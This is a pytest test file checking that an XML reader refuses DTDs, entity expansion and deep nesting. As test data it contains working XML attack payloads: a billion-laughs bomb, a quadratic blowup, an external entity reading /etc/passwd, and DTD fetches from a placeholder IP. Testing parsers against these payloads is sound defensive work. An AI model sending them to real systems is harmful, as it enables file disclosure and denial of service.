"""XML with anything in it but elements and text is refused (ASVS 1.5.1)."""

import pytest

from connector.providers.base import MappingError
from connector.providers.xml_documents import read_xml

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
CORPUS = {
    "billion laughs": f'<!DOCTYPE l [<!ENTITY l0 "lol">{LAUGHS}]><cdr>&l9;</cdr>',
    "quadratic": f'<!DOCTYPE q [<!ENTITY a "{"a" * 50_000}">]><cdr>{"&a;" * 1_000}</cdr>',
    "local file": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><cdr>&f;</cdr>',
    "network": '<!DOCTYPE x SYSTEM "http://198.51.100.1/x.dtd"><cdr/>',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/p">%p;]><cdr/>',
    "plain doctype": "<!DOCTYPE cdr><cdr/>",
    "after the declaration": '<?xml version="1.0"?><!DOCTYPE cdr [<!ELEMENT cdr ANY>]><cdr/>',
    "deep": "<a>" * 100_000 + "</a>" * 100_000,
    "just too deep": "<a>" * 33 + "</a>" * 33,
}
BROKEN = [
    "",
    "<cdr>",
    "<cdr>&unknown;</cdr>",
    "<cdr/><cdr/>",
    "<cdr a='1' a='2'/>",
    "<c\0dr/>",
    "<cdr>\x01</cdr>",
    "<cdr>\ud800</cdr>",
    "<cdr/>" + " " * 1_100_000,
]


@pytest.mark.attack(48)
@pytest.mark.parametrize("name", CORPUS)
def test_dtd_entities_and_depth_are_refused(name: str) -> None:
    with pytest.raises(MappingError) as caught:
        read_xml(CORPUS[name])
    assert caught.value.rejection_code in {"forbidden_markup", "unreadable"}


@pytest.mark.parametrize("text", BROKEN)
def test_broken_xml_is_unreadable(text: str) -> None:
    with pytest.raises(MappingError):
        read_xml(text)


def test_elements_and_text_are_read() -> None:
    root = read_xml(
        '<?xml version="1.0" encoding="UTF-16"?>\n<cdr><!-- x --><?pi y?><a>ä&amp;</a></cdr>'
    )
    assert [(child.tag, child.text) for child in root] == [("a", "ä&")]
    assert read_xml("<a>" * 32 + "</a>" * 32).tag == "a"
